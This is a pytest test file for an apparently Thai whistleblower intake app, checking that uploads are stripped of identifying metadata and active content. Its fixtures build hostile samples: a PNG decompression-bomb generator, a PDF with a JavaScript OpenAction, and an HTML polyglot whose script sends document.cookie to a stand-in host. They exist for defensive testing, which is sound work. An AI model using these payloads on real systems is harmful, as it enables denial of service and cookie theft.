"""Evidence files: nothing that could unmask a reporter survives, nothing can exhaust a worker, phone photos are taken."""
from __future__ import annotations

import io
import struct
import zlib

import pikepdf
import pytest
from PIL import Image
from sqlalchemy import func, select

from app.extensions import db
from app.models import Attachment, Case
from app.services import attachments as attachment_store
from app.services.attachments import AttachmentError, Upload
from tests.functional.test_intake import _post


def _stored() -> list[bytes]:
    return [attachment_store.read(a)[1] for a in db.session.scalars(select(Attachment))]


def _cases() -> int:
    return db.session.scalar(select(func.count()).select_from(Case))


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def huge_png(width: int = 10_000, height: int = 9_980) -> bytes:
    """A tiny file that declares ~100 megapixels of one-bit grey: it decompresses to gigabytes once decoded."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", body)
            + _png_chunk(b"IEND", b""))


def jpeg(comment: bytes = b"", size=(64, 48), colour=(10, 120, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG", comment=comment)
    return out.getvalue()


def test_a_decompression_bomb_png_is_refused_from_its_header_before_decoding(client, monkeypatch):
    bomb = huge_png()
    assert len(bomb) < 1_000_000
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self: decoded.append(self.size))
    response = _post(client, "/report", {"subject": "ก", "details": "ข"}, files=[(io.BytesIO(bomb), "map.png")])
    assert response.status_code == 400
    assert "ล้านพิกเซล" in response.get_data(as_text=True)
    assert decoded == [] and _cases() == 0


def test_one_request_has_a_decode_budget_across_its_files(app):
    from app.services.attachments import DecodeBudget

    budget = DecodeBudget(pixels=3_000_000)
    attachment_store.clean(Upload("a.jpg", jpeg(size=(1500, 1000))), budget)
    attachment_store.clean(Upload("b.jpg", jpeg(size=(1500, 1000))), budget)
    with pytest.raises(AttachmentError):
        attachment_store.clean(Upload("c.jpg", jpeg(size=(1500, 1000))), budget)


def test_the_files_of_one_submission_share_its_decode_budget(client, monkeypatch):
    monkeypatch.setattr(attachment_store, "REQUEST_DECODE_PIXELS", 3_000_000)
    files = [(io.BytesIO(jpeg(size=(1500, 1000))), f"{n}.jpg") for n in range(3)]
    response = _post(client, "/report", {"subject": "ก", "details": "ข"}, files=files)
    assert response.status_code == 400
    assert "รวมกันใหญ่เกินไป" in response.get_data(as_text=True)
    assert _cases() == 0


def test_jpeg_comment_and_icc_profile_do_not_survive_re_encoding(client):
    photo = jpeg(comment=b"Taken by Somchai's phone")
    out = io.BytesIO()
    Image.open(io.BytesIO(photo)).save(out, "JPEG", comment=b"Taken by Somchai's phone", icc_profile=b"X" * 200)
    response = _post(client, "/report", {"subject": "ก", "details": "ข"},
                     files=[(io.BytesIO(out.getvalue()), "a.jpg")])
    assert response.status_code == 303
    [data] = _stored()
    assert b"Somchai" not in data
    with Image.open(io.BytesIO(data)) as img:
        assert "comment" not in img.info and "icc_profile" not in img.info


def test_multi_picture_jpeg_from_a_phone_camera_is_taken_as_its_first_frame(client):
    first, second = Image.new("RGB", (64, 48), (200, 0, 0)), Image.new("RGB", (64, 48), (0, 0, 200))
    out = io.BytesIO()
    first.save(out, "MPO", save_all=True, append_images=[second])
    response = _post(client, "/complaint", {"subject": "ก", "details": "ข"}, files=[(io.BytesIO(out.getvalue()), "a.jpg")])
    assert response.status_code == 303
    [data] = _stored()
    with Image.open(io.BytesIO(data)) as img:
        assert img.format == "JPEG" and getattr(img, "n_frames", 1) == 1
        red, _, blue = img.convert("RGB").getpixel((10, 10))
        assert red > 150 and blue < 60


def test_heic_photo_from_an_iphone_is_accepted_as_jpeg_without_its_exif(client):
    import pillow_heif

    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif[0x010F] = "SecretPhone"
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (0, 160, 0)).save(out, "HEIF", exif=exif)
    assert b"SecretPhone" in out.getvalue()
    response = _post(client, "/report", {"subject": "ก", "details": "ข"}, files=[(io.BytesIO(out.getvalue()), "IMG_1.HEIC")])
    assert response.status_code == 303
    [data] = _stored()
    assert b"SecretPhone" not in data
    assert db.session.scalar(select(Attachment.mimetype)) == "image/jpeg"


def hostile_pdf() -> bytes:
    """A PDF carrying an author, XMP, an OpenAction script, an embedded file and a form."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Author"] = "Somchai Jaidee"
    pdf.docinfo["/Creator"] = "Somchai's laptop"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = ["Somchai Jaidee"]
    js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('x')")))
    pdf.Root.OpenAction = js
    attached = pikepdf.AttachedFileSpec(pdf, b"Somchai's ID card", filename="id.txt")
    pdf.attachments["id.txt"] = attached
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array())
    pdf.pages[0].AA = pikepdf.Dictionary(O=js)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def test_pdf_is_rewritten_without_metadata_scripts_actions_embedded_files_or_forms(client):
    original = hostile_pdf()
    assert b"Somchai" in original
    response = _post(client, "/report", {"subject": "ก", "details": "ข"}, files=[(io.BytesIO(original), "a.pdf")])
    assert response.status_code == 303
    [data] = _stored()
    assert b"Somchai" not in data and b"JavaScript" not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 1
        assert "/Info" not in pdf.trailer or not dict(pdf.docinfo)
        for key in ("/Metadata", "/OpenAction", "/AcroForm", "/Names", "/AA"):
            assert key not in pdf.Root
        assert "/AA" not in pdf.pages[0]


def test_a_pdf_html_polyglot_is_stored_only_as_the_rewritten_pdf(client):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out)
    polyglot = out.getvalue() + b"<html><script>fetch('//evil/'+document.cookie)</script></html>"
    response = _post(client, "/complaint", {"subject": "ก", "details": "ข"}, files=[(io.BytesIO(polyglot), "a.pdf")])
    assert response.status_code == 303
    [data] = _stored()
    assert b"<script>" not in data and data.startswith(b"%PDF-")


def test_something_that_only_starts_like_a_pdf_is_refused(client):
    response = _post(client, "/complaint", {"subject": "ก", "details": "ข"},
                     files=[(io.BytesIO(b"%PDF-1.7\n<html><script>alert(1)</script></html>"), "a.pdf")])
    assert response.status_code == 400
    assert "PDF" in response.get_data(as_text=True)
    assert _cases() == 0
